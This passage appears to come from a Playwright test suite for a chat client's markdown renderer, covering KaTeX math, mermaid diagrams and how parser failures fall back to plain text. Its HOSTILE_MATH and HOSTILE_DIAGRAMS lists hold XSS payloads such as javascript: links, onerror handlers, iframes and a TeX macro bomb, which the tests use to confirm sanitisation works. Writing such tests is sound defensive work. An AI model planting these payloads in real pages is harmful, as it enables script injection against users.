    "inline dollars with subscripts and stars": (r"$a_1 * b_2 + a_2 * b_1$", r"a_1 * b_2 + a_2 * b_1"),
    "inline dollars with emphasis-like stars": (r"$a*b*c = x_*y_*$", r"a*b*c = x_*y_*"),
    "inline dollars with escapes": (r"$\{x\} \\ \$y\$ \_z$", r"\{x\} \\ \$y\$ \_z"),
    "display dollars": ("$$\n\\sum_{i=1}^{n} i = \\frac{n(n+1)}{2}\n$$", r"\sum_{i=1}^{n} i = \frac{n(n+1)}{2}"),
    "display dollars on one line": (r"$$e^{i\pi} + 1 = 0$$", r"e^{i\pi} + 1 = 0"),
}


@pytest.mark.parametrize("case", sorted(MATH_SOURCES))
def test_math_renders_as_mathml_from_exactly_what_was_written(session: Session, case: str):
    """Each formula becomes KaTeX's MathML, built from the TeX exactly as the model wrote it: markdown's
    escapes (`\\[` becoming `[`) and emphasis (`a_1 * b_2`) never touch it, in a paragraph, a list item
    and alone. The TeX is kept (MathML's annotation) for copy and for screen readers."""
    source, tex = MATH_SOURCES[case]
    text = f"Before {source} after.\n\n- item {source}\n\n{source}\n"
    session.call("oneShot", text, "math")
    rendered = session.page.locator("#math")
    expect(rendered.locator("math")).to_have_count(3)
    expect(rendered.locator("math annotation")).to_have_text([tex] * 3)
    expect(rendered.locator(".math-error")).to_have_count(0)
    expect(rendered.locator("em, strong, del")).to_have_count(0)
    display = source.startswith(("\\[", "$$"))
    assert rendered.locator("math").first.get_attribute("display") == ("block" if display else None)


def test_markdown_around_math_still_works(session: Session):
    """The other side: escapes outside math are still escapes, prices are not math, emphasis still works."""
    session.call("oneShot", "It costs $5 or $10, \\$20 escaped, \\*not emphasis\\*, *emphasis* and $x$.", "around")
    rendered = session.page.locator("#around")
    expect(rendered.locator("math")).to_have_count(1)
    expect(rendered.locator("math annotation")).to_have_text("x")
    rendered.locator("math").evaluate("m => m.remove()")
    expect(rendered).to_have_text("It costs $5 or $10, $20 escaped, *not emphasis*, emphasis and .")
    expect(rendered.locator("em")).to_have_text("emphasis")
    # Emphasis around math ends outside it, never at a star inside the math.
    session.call("oneShot", "*see $a*b$ here* and _also \\(x_1\\) this_", "wrapped")
    expect(session.page.locator("#wrapped em annotation")).to_have_text(["a*b", "x_1"])


def test_a_broken_formula_shows_its_source_and_the_error(session: Session):
    session.call("oneShot", "Here $\\frac{1}{$ and $$\\left( x$$ end.", "broken")
    errors = session.page.locator("#broken .math-error")
    expect(errors).to_have_count(2)
    expect(errors.nth(0).locator("code")).to_have_text("$\\frac{1}{$")
    expect(errors.nth(0).locator(".math-error-message")).to_contain_text("Unexpected end of input")
    expect(errors.nth(1).locator("code")).to_have_text("$$\\left( x$$")


def test_math_blocks_stream_like_their_one_shot_render(session: Session):
    """A math block interrupts the paragraph above it only once it is certain: text after the closing
    `$$` on the same line makes it part of that paragraph again (blocks.js keeps both open till then)."""
    text = ("Intro line\n$$\nx = 1\n$$ and more text\n\nWhere:\n\\[\na^2 + b^2\n\\]\nand so on.\n\n"
            "Unclosed $$ y and a blank line\n\n$$ z $$\n")
    result = session.call("stream", list(text), {"compareEachStep": True})
    assert result["problems"] == []
    html = session.call("oneShot", text)
    assert result["html"] == html
    rendered = session.page.locator("#oneshot")
    expect(rendered.locator("div.math-display annotation")).to_have_text(["a^2 + b^2", "z"])
    expect(rendered.locator("p").first.locator("annotation")).to_have_text("x = 1")


HOSTILE_MATH = {  # SECURITY.md T-X9: TeX that asks for links, HTML attributes, or endless expansion
    "href": r"$\href{javascript:top.pwned=1}{click}$",
    "url": r"$\url{javascript:top.pwned=1}$",
    "htmlData": r"$\htmlData{onclick=top.pwned=1}{x}$",
    "htmlId and class": r"$\htmlId{harness}{x} \htmlClass{md-plain-note}{y} \htmlStyle{position:fixed}{z}$",
    "includegraphics": r"$\includegraphics{https://example.com/x.png}$",
    "macro bomb": r"$\def\a{\a\a}\a$",
    "huge size": r"$\rule{100000em}{100000em}$",
    "raw MathML with href": '<math><mi href="javascript:top.pwned=1">x</mi><maction actiontype="statusline">'
                            '<mi>y</mi><mi>z</mi></maction><annotation-xml encoding="text/html"><img src=x '
                            'onerror="top.pwned=1"></annotation-xml></math>',
}


def test_hostile_math_stays_inert(session: Session):
    contained = 0
    for name, text in HOSTILE_MATH.items():
        session.call("oneShot", text, "hostile")
        rendered = session.page.locator("#hostile")
        bad = rendered.evaluate("""r => [...r.querySelectorAll('*')].flatMap(e => [...e.attributes]
            .filter(a => /^on/i.test(a.name) || a.name === 'href' || a.name === 'style' || a.name === 'id')
            .map(a => e.tagName + ' ' + a.name))""")
        assert bad == [], (name, bad)
        assert rendered.locator("a, img, maction, annotation-xml, [class*=md-plain-note]").count() == 0, name
        for element in rendered.locator("*").all()[:50]:
            element.dispatch_event("click")
        assert session.page.evaluate("window.pwned") is None, name
        contained += 1
    print(f"hostile math contained: {contained}/{len(HOSTILE_MATH)}")
    assert contained == len(HOSTILE_MATH)


MERMAID = "graph TD\n  A[Start] --> B{Is it?}\n  B -->|yes| C[Done]\n  B -->|no| A"


def diagram_svg(session: Session, element_id: str):
    """The diagram's SVG inside its shadow root, once mermaid has drawn it (None until then)."""
    return session.page.evaluate("""id => {
        const host = document.querySelector('#' + id + ' .md-diagram');
        const svg = host?.shadowRoot?.querySelector('svg');
        if (!svg) return null;
        const all = [svg, ...svg.querySelectorAll('*')];
        return {tags: [...new Set(all.map(e => e.localName))],
                attrs: [...new Set(all.flatMap(e => [...e.attributes].map(a => a.name)))],
                texts: [...svg.querySelectorAll('text, tspan')].map(t => t.textContent.trim()).filter(Boolean),
                hrefs: all.filter(e => e.hasAttribute('href') || e.hasAttribute('xlink:href')).length,
                label: host.getAttribute('aria-label')};
    }""", element_id)


def test_a_mermaid_block_becomes_a_sanitized_svg_once_its_fence_closes(session: Session):
    text = f"Flow:\n\n```mermaid\n{MERMAID}\n```\n\nAfter."
    session.call("oneShot", text, "mermaid")
    drawn = "id => document.querySelector('#' + id + ' .md-diagram')?.shadowRoot?.querySelector('svg')"
    session.page.wait_for_function(drawn, arg="mermaid", timeout=30_000)
    svg = diagram_svg(session, "mermaid")
    assert {"Start", "Is it?", "Done"} <= set(svg["texts"]), svg["texts"]
    assert not {"script", "foreignobject", "foreignObject", "style", "a", "image", "use"} & set(svg["tags"])
    assert not [a for a in svg["attrs"] if a.startswith("on") or a == "style"] and svg["hrefs"] == 0
    assert svg["label"] == "Diagram: graph TD"
    expect(session.page.locator("#mermaid pre")).to_have_count(0)  # the source gave way to the drawing

    # Streamed token by token: code while the fence is open, the diagram once it closes, drawn once.
    session.page.evaluate("window.mermaidRenders = 0")
    result = session.call("stream", list(text), {"compareEachStep": False, "id": "streamed"})
    assert result["problems"] == []
    session.page.wait_for_function(drawn, arg="streamed", timeout=30_000)
    assert diagram_svg(session, "streamed")["texts"] == svg["texts"]
    assert session.page.locator("#streamed .md-diagram").count() == 1


HOSTILE_DIAGRAMS = {  # SECURITY.md T-X10: what a diagram could try to run, load or reach
    "click callback": "graph TD\n  A-->B\n  click A callback \"tip\"\n  click B call top.alert(1)",
    "click javascript href": 'graph TD\n  A-->B\n  click A href "javascript:top.pwned=1"',
    "html label": 'graph TD\n  A["<img src=x onerror=top.pwned=1>"]-->B["<b onclick=top.pwned=1>b</b>"]',
    "init directive": '%%{init: {"securityLevel": "loose", "htmlLabels": true, "themeCSS": "* {background: '
                      'url(https://example.com/x)}"}}%%\ngraph TD\n  A["<img src=x onerror=top.pwned=1>"]-->B',
    "iframe in note": "sequenceDiagram\n  A->>B: hi\n  Note right of B: <iframe src=javascript:top.pwned=1></iframe>",
}


def test_hostile_diagrams_stay_inert(session: Session):
    contained = 0
    for index, (name, source) in enumerate(HOSTILE_DIAGRAMS.items()):
        element_id = f"hostile-diagram-{index}"
        session.call("oneShot", f"```mermaid\n{source}\n```\n", element_id)
        session.page.wait_for_function(
            """id => document.querySelector('#' + id + ' .md-diagram')?.shadowRoot?.querySelector('svg')
                    || document.querySelector('#' + id + ' .md-diagram-error')""", arg=element_id, timeout=30_000)
        svg = diagram_svg(session, element_id)
        if svg is not None:
            assert not {"script", "foreignobject", "foreignObject", "iframe", "img", "a", "image"} & set(svg["tags"]), \
                (name, svg["tags"])
            assert not [a for a in svg["attrs"] if a.startswith("on") or a == "style"] and svg["hrefs"] == 0, name
            session.page.evaluate("""id => {
                const svg = document.querySelector('#' + id + ' .md-diagram').shadowRoot.querySelector('svg');
                for (const e of svg.querySelectorAll('*')) e.dispatchEvent(new MouseEvent('click', {bubbles: true}));
            }""", element_id)
        assert session.page.evaluate("window.pwned") is None, name
        contained += 1
    print(f"hostile diagrams contained: {contained}/{len(HOSTILE_DIAGRAMS)}")
    assert contained == len(HOSTILE_DIAGRAMS)


def test_a_broken_diagram_shows_its_source_and_the_error(session: Session):
    session.call("oneShot", "```mermaid\ngraph TD\n  A-->\n  this is not mermaid ((\n```\n", "broken-diagram")
    note = session.page.locator("#broken-diagram .md-diagram-error")
    expect(note).to_contain_text("Diagram not drawn:", timeout=30_000)
    expect(session.page.locator("#broken-diagram pre code")).to_contain_text("this is not mermaid")


DRAWN = "id => document.querySelector('#' + id + ' .md-diagram')?.shadowRoot?.querySelector('svg')"


def draw_diagram(session: Session, source: str, element_id: str) -> dict[str, float]:
    """Render one diagram and return its drawn size and colours next to its column's width."""
    session.call("oneShot", f"```mermaid\n{source}\n```\n", element_id)
    session.page.wait_for_function(DRAWN, arg=element_id, timeout=30_000)
    return session.page.evaluate("""id => {
        const column = document.getElementById(id), frame = column.querySelector('.md-diagram-frame');
        const svg = frame.querySelector('.md-diagram').shadowRoot.querySelector('svg');
        const box = svg.getBoundingClientRect(), label = svg.querySelector('.nodeLabel, .label text, text');
        return {width: box.width, height: box.height, column: column.clientWidth,
                background: getComputedStyle(frame).backgroundColor, text: getComputedStyle(label).fill,
                node: getComputedStyle(svg.querySelector('.node rect')).fill};
    }""", element_id)


OTHER_DIAGRAMS = [
    "sequenceDiagram\n  Alice->>Bob: Hi\n  Note right of Bob: thinks\n  Bob-->>Alice: Hello",
    "classDiagram\n  class Animal {\n    +name: str\n    +speak()\n  }\n  Animal <|-- Dog",
    "stateDiagram-v2\n  [*] --> Idle\n  Idle --> Busy: go\n  Busy --> [*]",
    "pie title Pets\n  \"Dogs\" : 3\n  \"Cats\" : 2",
    "graph TD\n  A:::hot --> B\n  classDef hot fill:#f96,stroke:#333\n  style B fill:#bbf",
]


def luminance(css_colour: str) -> float:
    red, green, blue = (int(v) for v in re.findall(r"\d+", css_colour)[:3])
    return (0.2126 * red + 0.7152 * green + 0.0722 * blue) / 255


def test_a_diagram_has_its_natural_size_follows_the_theme_and_breaks_no_csp_rule(session: Session):
    """Issue 29 item 8: a two-node graph filled the column (811x693 px), stayed white in dark mode, and the
    page's CSP refused mermaid's inline styles. Now: its own size, at most the column's, drawn in the
    theme of the page (and drawn again when the theme changes), with no CSP violation."""
    page = session.page
    page.evaluate("""() => { window.violations = [];
        document.addEventListener('securitypolicyviolation',
            (e) => window.violations.push(`${e.effectiveDirective}: ${e.sample || e.blockedURI}`)); }""")
    small = draw_diagram(session, "graph LR\n  A[Ask] --> B[Answer]", "small")
    assert 100 < small["width"] < 400 and 20 < small["height"] < 150, small
    chain = " --> ".join(f"N{i}[Step number {i}]" for i in range(30))
    wide = draw_diagram(session, f"graph LR\n  {chain}", "wide")
    assert wide["column"] - 40 <= wide["width"] <= wide["column"], wide  # shrunk to the column, never wider
    assert luminance(small["background"]) > 0.9 and luminance(small["text"]) < 0.4, small
    for index, other in enumerate(OTHER_DIAGRAMS):  # other kinds of diagram write other styles
        session.call("oneShot", f"```mermaid\n{other}\n```\n", f"other-{index}")
        page.wait_for_function(DRAWN, arg=f"other-{index}", timeout=30_000)
    # Their style attributes are gone, but what SVG says as an attribute stays: the actors' names are centred.
    assert page.evaluate("""() => [...document.querySelector('#other-0 .md-diagram').shadowRoot
        .querySelectorAll('text.actor')].map((t) => getComputedStyle(t).textAnchor)""") == ["middle"] * 4

    # Dark, as Settings > Theme sets it (theme.js's data-theme; styles.css turns it into color-scheme).
    page.evaluate("() => { document.documentElement.dataset.theme = 'dark'; "
                  "document.documentElement.style.colorScheme = 'dark'; }")
    dark = draw_diagram(session, "graph LR\n  A[Ask] --> B[Answer]", "dark")
    assert luminance(dark["background"]) < 0.2 and luminance(dark["text"]) > 0.7, dark
    assert luminance(dark["node"]) < 0.4, dark
    # The diagram drawn in light is drawn again in dark.
    page.wait_for_function("""() => {
        const svg = document.querySelector('#small .md-diagram').shadowRoot.querySelector('svg');
        const fill = getComputedStyle(svg.querySelector('.nodeLabel, .label text, text')).fill;
        return fill.match(/\\d+/g).slice(0, 3).every((v) => Number(v) > 170);
    }""", timeout=30_000)
    assert page.evaluate("() => window.violations") == []


# --- text the parser cannot take (SECURITY.md T-Z2) ------------------------------------------------------

# 300 000 nested block quotes: marked's recursive lexer runs out of stack long before their end.
DEEP_QUOTES = ">" * 300_000


@pytest.mark.parametrize("live", [False, True], ids=["stored", "streamed"])
@pytest.mark.parametrize("failure", ["parser stack overflow", "a part of the renderer throws"])
def test_a_render_failure_on_one_message_leaves_the_others_shown(session: Session, live: bool, failure: str):
    """A message whose rendering throws is shown as plain text under a note; the messages around it
    are rendered as usual, and the caller (the transcript) never sees the error."""
    if failure == "parser stack overflow":
        texts = ["Before: **bold**", DEEP_QUOTES, "After: **bold**"]
        options = {"live": live}
    else:
        texts = ["Before: **bold**", "A picture: ![chart](https://img.example/chart.png)", "After: **bold**"]
        options = {"live": live, "brokenImages": True}
    shown = session.call("messages", texts, options)
    assert [m["plain"] for m in shown] == [False, True, False]
    assert [m["strong"] for m in shown] == [1, 0, 1]
    assert shown[1]["shown"] == texts[1]  # every character, as text
    assert "could not be formatted" in shown[1]["note"].lower()
    expect(session.page.locator("#messages-1 pre.md-plain")).to_be_visible()


def test_text_past_the_size_limit_is_shown_plain_at_once_and_while_it_streams(session: Session):
    """Past MAX_MARKDOWN_CHARS nothing is given to the parser: the text is shown as written."""
    big = "**not bold** " * 100_000  # 1.3 million characters
    stored, streamed = session.call("messages", [big], {"id": "stored"})[0], \
        session.call("messages", [big], {"id": "streamed", "live": True})[0]
    for shown in (stored, streamed):
        assert shown["plain"] and shown["strong"] == 0 and shown["shown"] == big
        assert "too long to format" in shown["note"].lower()
